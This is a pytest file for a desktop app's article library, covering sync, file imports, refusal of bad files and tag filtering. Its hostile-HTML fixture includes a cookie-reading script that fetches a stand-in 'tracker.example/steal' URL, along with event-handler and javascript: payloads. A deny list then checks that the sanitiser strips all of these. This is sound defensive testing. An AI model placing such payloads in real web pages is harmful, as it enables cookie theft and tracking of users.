"""Bundled sync, imports (Markdown, text, hostile HTML, 4 MB), refusals and deletion."""

from __future__ import annotations

import re
import shutil

import pytest

from smartpick_desktop.core.articles import annotations, bundle, library, search
from smartpick_desktop.core.errors import InputError

HOSTILE = """<!DOCTYPE html>
<html><head><title>Residency tips page</title>
<meta http-equiv="refresh" content="0;url=https://tracker.example/meta">
<link rel="stylesheet" href="https://tracker.example/style.css">
<style>body { background: url(https://tracker.example/bg.png) }</style>
<script src="https://tracker.example/lib.js"></script>
<script>document.cookie; fetch('https://tracker.example/steal')</script>
</head>
<body onload="evilOnload()">
<h1>Interview day checklist</h1>
<p onclick="evilClick()">Arrive early and bring questions about <b>quokkafest</b> programs.</p>
<p><a href="javascript:evilHref()">Click me</a> and <a href="https://example.org/guide">a guide</a>
 and <a href="//tracker.example/protocol-relative">more</a>.</p>
<img src="https://tracker.example/pixel.gif" onerror="evilError()" alt="pixel">
<iframe src="https://tracker.example/frame">iframe fallback text</iframe>
<object data="https://tracker.example/x.swf"></object>
<form action="https://tracker.example/post"><input value="secret"></form>
<svg><script>evilSvg()</script></svg>
<p style="background:url(https://tracker.example/s.png)">Send a thank-you note the same week.</p>
</body></html>
"""
FORBIDDEN = [b"tracker.example", b"<script", b"evilOnload", b"evilClick", b"evilHref",
             b"evilError", b"evilSvg", b"javascript", b"iframe", b"onerror", b"onclick",
             b"onload", b"document.cookie", b"fallback text", b"<style", b"<link", b"<meta",
             b"<img", b"<object"]


@pytest.fixture
def synced(store):
    with store.session() as session:
        library.sync_bundled(session)
    return store


def test_bundle_has_at_least_twelve_valid_articles_with_valid_actions():
    headers = bundle.bundled_headers()
    assert len(headers) >= 12
    slugs = {h.slug for h in headers}
    for slug, text in bundle.bundled_texts():
        for target in re.findall(r"\]\((smartpick:[^)]*)\)", text):
            from smartpick_desktop.core.articles.actions import parse_action

            action = parse_action(target)
            assert action is not None, f"{slug}: bad action {target}"
            if action.kind == "article":
                assert action.argument in slugs, f"{slug}: unknown article {target}"
        assert "http://" not in text and "https://" not in text, slug


def test_sync_is_idempotent_and_keeps_ids_and_highlights(store, tmp_path):
    folder = tmp_path / "articles"
    shutil.copytree(bundle.bundle_dir(), folder)
    with store.session() as session:
        assert library.sync_bundled(session, folder=folder) is True
        first = {i.slug: i.id for i in library.list_articles(session)}
        sid = first["study-groups"]
        annotations.add_highlight(session, sid, 0, 5, "A goo")
    with store.session() as session:
        assert library.sync_bundled(session, folder=folder) is False
    path = folder / "study-groups.md"
    original = path.read_text()
    path.write_text(original + "\nA fresh zqxwvutsr paragraph.\n")
    (folder / "introverts.md").unlink()
    with store.session() as session:
        assert library.sync_bundled(session, folder=folder) is True
        after = {i.slug: i.id for i in library.list_articles(session)}
        assert after["study-groups"] == sid and "introverts" not in after
        assert len(annotations.list_highlights(session, sid)) == 1
        assert [h.article.slug for h in search.search(session, "zqxwvutsr")] == ["study-groups"]
    path.write_text(original)
    with store.session() as session:
        assert library.sync_bundled(session, folder=folder) is True
        assert search.search(session, "zqxwvutsr") == []


def test_import_markdown_with_front_matter_and_text(synced, tmp_path):
    md = tmp_path / "notes.md"
    md.write_text("---\ntitle: My ward notes\ntags: [wards]\n---\n\n# Ignored\n\nPagers "
                  "beep zanzibarly.\n", encoding="utf-8")
    txt = tmp_path / "plain_thoughts.txt"
    txt.write_text("First line of text\n\nMore <b>angle</b> quixotically.", encoding="utf-8")
    with synced.session() as session:
        a = library.import_file(session, md)
        b = library.import_file(session, txt)
    assert (a.title, a.tags, a.source) == ("My ward notes", ["wards"], "imported")
    assert b.title == "plain thoughts" and b.summary == "First line of text"
    with synced.session() as session:
        assert search.search(session, "zanzibarly")[0].article.id == a.id
        assert search.search(session, "quixotically")[0].article.id == b.id
        article = library.get_article(session, b.id)
        assert "&lt;b&gt;angle&lt;/b&gt;" in article.html()


def test_hostile_html_keeps_its_text_and_leaves_nothing_dangerous_in_the_store(synced,
                                                                                tmp_path):
    page = tmp_path / "tips.html"
    page.write_text(HOSTILE, encoding="utf-8")
    with synced.session() as session:
        info = library.import_file(session, page)
    assert info.title == "Residency tips page"
    with synced.session() as session:
        article = library.get_article(session, info.id)
        assert "Interview day checklist" in article.plain
        assert "Send a thank-you note the same week." in article.plain
        assert 'href="https://example.org/guide"' in article.body
        assert ">Click me</a>" in article.body or "Click me" in article.plain
        hits = search.search(session, "quokkafest programs")
        assert [h.article.id for h in hits] == [info.id]
        assert info.id in [h.article.id for h in search.search(session, "thank-you")]
    synced.close()
    for path in synced.data_dir.glob("smartpick.db*"):
        data = path.read_bytes().lower()
        for needle in FORBIDDEN:
            assert needle.lower() not in data, f"{needle!r} found in {path.name}"


def test_four_megabyte_markdown_imports_and_its_last_word_is_searchable(synced, tmp_path):
    paragraph = ("Residency applicants keep careful notes about every program they visit, "
                 "including the people they met and the questions they asked. ")
    body = "# Big notebook\n\n" + "\n\n".join([paragraph * 4] * 7600) + "\n\nFinal wordzyx"
    path = tmp_path / "big.md"
    path.write_text(body, encoding="utf-8")
    assert path.stat().st_size >= 4_000_000
    with synced.session() as session:
        info = library.import_file(session, path)
    with synced.session() as session:
        hits = search.search(session, "wordzyx")
    assert [h.article.id for h in hits] == [info.id]
    assert "wordzyx" in hits[0].snippet


@pytest.mark.parametrize(("name", "data", "message"), [
    ("photo.md", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "binary"),
    ("latin.txt", "caf\u00e9 au lait".encode("latin-1"), "not UTF-8"),
    ("empty.md", b"   \n\n", "no readable text"),
    ("sheet.xlsx", b"PK\x03\x04 plain", "unsupported file type"),
    ("bad.md", b"---\ntitle: [oops\n---\nx", "bad.md, line 2"),
])
def test_bad_files_are_refused_and_change_nothing(synced, tmp_path, name, data, message):
    path = tmp_path / name
    path.write_bytes(data)
    with synced.session() as session:
        before = len(library.list_articles(session))
        with pytest.raises(InputError, match=message):
            library.import_file(session, path)
    with synced.session() as session:
        assert len(library.list_articles(session)) == before


def test_list_filters_by_tag_and_counts_annotations(synced):
    with synced.session() as session:
        letters = library.get_article_by_slug(session, "letters-of-recommendation")
        annotations.add_bookmark(session, letters.id, 0.2)
        annotations.set_progress(session, letters.id, 0.75)
        tagged = library.list_articles(session, tag="thank-you")
        assert "letters-of-recommendation" in {i.slug for i in tagged}
        assert all("thank-you" in i.tags for i in tagged)
        info = next(i for i in tagged if i.slug == "letters-of-recommendation")
        assert (info.bookmarks, info.progress) == (1, 0.75)
        assert "thank-you" in library.all_tags(session)
